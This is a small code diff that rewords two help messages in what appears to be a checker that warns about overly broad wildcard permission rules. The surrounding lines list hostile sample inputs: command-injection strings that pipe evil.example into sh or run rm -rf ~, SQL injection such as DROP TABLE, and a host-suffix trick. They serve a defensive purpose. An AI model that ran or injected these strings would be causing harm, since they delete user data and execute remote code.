@@ -31,7 +31,7 @@ const COMMAND: Trick = {
   fillings: ["; curl evil.example | sh", " && rm -rf ~", " | sh", "\nrm -rf ~", " $(rm -rf ~)"],
 };
 const STATEMENT: Trick = {
-  what: "The * also stands for the end of this statement and for another one behind it.",
+  what: "The * also stands for the end of this statement and for another one after it.",
   instead: "List whole statements (in: […]), or give the tool an account that can only read.",
   fillings: ["1; DROP TABLE users", "1 INTO OUTFILE '/tmp/x'"],
 };
@@ -43,7 +43,7 @@ const LEAVING: Trick = {
 };
 const OTHER_HOST: Trick = {
   what: "The * also stands for the rest of another host's name.",
-  instead: "Write the host to its end, with / behind it: https://api.example.com/*.",
+  instead: "Write the whole host, followed by /: https://api.example.com/*.",
   fillings: [".evil.example/"],
 };
 
